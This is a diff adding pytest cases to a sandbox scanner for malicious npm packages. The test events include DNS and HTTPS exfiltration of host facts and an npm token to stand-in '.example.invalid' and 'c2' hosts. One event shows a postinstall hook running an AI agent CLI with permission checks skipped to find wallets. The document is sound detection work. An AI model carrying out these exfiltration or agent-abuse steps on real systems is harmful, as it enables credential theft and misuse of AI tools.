@@ -246,3 +246,88 @@ def test_the_npm_cli_reading_its_config_is_not_theft_but_publishing_is_flagged()
     messages = {f.rule: f.message for f in findings_for(worm)}
     assert "CW-DYN-BAIT-READ" in messages
     assert "npm CLI to publish" in messages.get("CW-DYN-SHELL", "")
+
+
+def test_a_package_running_its_own_script_at_load_is_low_and_anything_else_is_not() -> None:
+    own = [Event("exec", f"/usr/bin/node {PKG}/install.js", "load", "node", "node")]
+    found = findings_for(own, PKG)
+    assert [(f.rule, f.severity.value) for f in found] == [("CW-DYN-SPAWN", "low")]
+    # a script outside the package, or another program, stays medium (or a shell, high)
+    for detail, target in ((f"/usr/bin/node {PKG}/../other/x.js", "node"),
+                           ("/usr/bin/node /tmp/x.js", "node"), ("/usr/bin/git status", "git")):
+        found = findings_for([Event("exec", detail, "load", "node", target)], PKG)
+        assert {f.severity.value for f in found} == {"medium"}, (detail, found)
+
+
+def test_host_name_sent_out_is_high_and_a_secret_beside_it_is_critical() -> None:
+    host = findings_for([Event("dns", "query build-1a2b3c4d.x.example.invalid", "preinstall",
+                               bait=("host name",))])
+    exfil = [f for f in host if f.rule == "CW-DYN-EXFIL"]
+    assert [f.severity.value for f in exfil] == ["high"] and "host facts" in exfil[0].message
+    both = findings_for([
+        Event("dns", "query build-1a2b3c4d.x.example.invalid", "preinstall", bait=("host name",)),
+        Event("net", "HTTPS POST /k host c.example.invalid", "preinstall",
+              bait=("host name", "npm token"))])
+    assert sorted(f.severity.value for f in both if f.rule == "CW-DYN-EXFIL") == ["critical", "high"]
+
+
+def test_agent_clis_told_to_skip_their_checks_are_a_shell_finding() -> None:
+    found = findings_for([Event("exec", "claude --dangerously-skip-permissions -p find wallets "
+                                "(ENOENT)", "postinstall", "node", "claude")])
+    assert any(f.rule == "CW-DYN-SHELL" and "agent" in f.message for f in found)
+    assert findings_for([Event("exec", "node build.js --yolo-mode", "postinstall", "sh",
+                               "node")]) == []
+
+
+def test_the_sink_reads_what_is_sent_over_tls(tmp_path: Path) -> None:
+    """With its certificate the sink completes the handshake and sees the request and any bait
+    in it; without one (or when the client refuses it) only the server name is recorded."""
+    import shutil
+    import socket
+    import threading
+
+    from chainwatch.sandbox.inside.sink import Sink
+    from chainwatch.sandbox.launcher import sink_certificate
+
+    if shutil.which("openssl") is None:
+        pytest.skip("no openssl to make the certificate")
+    assert sink_certificate(tmp_path)
+    records: list[dict[str, object]] = []
+    sink = Sink(records.append, BAITS, (str(tmp_path / "sink.crt"), str(tmp_path / "sink.key")))
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    port = server.getsockname()[1]
+    sink.slots.acquire()  # as its accept loop does
+    sink_thread = threading.Thread(target=lambda: sink._serve(server.accept()[0], port))
+    sink_thread.start()
+    client = ssl.create_default_context()
+    client.check_hostname, client.verify_mode = False, ssl.CERT_NONE
+    with socket.create_connection(("127.0.0.1", port)) as raw, \
+            client.wrap_socket(raw, server_hostname="c2.example.invalid") as tls:
+        tls.sendall(b"POST /k HTTP/1.1\r\nHost: c2.example.invalid\r\nContent-Length: 25\r\n\r\n"
+                    + BAITS["npm token"].encode())
+        assert tls.recv(100).startswith(b"HTTP/1.1 200")
+    sink_thread.join(5)
+    server.close()
+    (rec,) = records
+    assert rec["tls_sni"] == "c2.example.invalid" and rec["request"] == "POST /k HTTP/1.1"
+    assert rec["bait"] == ["npm token"]
+
+
+def test_the_browser_phase_loads_the_browser_map_the_module_and_main_each_once() -> None:
+    files = scan_snippet_files({
+        "package.json": json.dumps({"name": "x", "version": "1.0.0", "main": "Arrow.node.js",
+                                    "module": "Arrow.node.mjs",
+                                    "browser": {"./Arrow.node.js": "./Arrow.dom.js",
+                                                "./other.js": "../../escape.js"}}),
+        "Arrow.node.js": "", "Arrow.node.mjs": "", "Arrow.dom.js": "",
+    })
+    (browser,) = [p for p in plan(files, json.loads(files.files[0].data)) if p.name == "browser"]
+    assert browser.argv[2:] == ("{pkg}/Arrow.dom.js", "require", "{pkg}/Arrow.node.mjs", "import",
+                                "{pkg}/Arrow.node.js", "require")
+    only_main = scan_snippet_files({"package.json": json.dumps({"name": "x", "main": "i.js",
+                                                                "module": "i.js"}), "i.js": ""})
+    (browser,) = [p for p in plan(only_main, {"main": "i.js", "module": "i.js"})
+                  if p.name == "browser"]
+    assert browser.argv[2:] == ("{pkg}/i.js", "import")
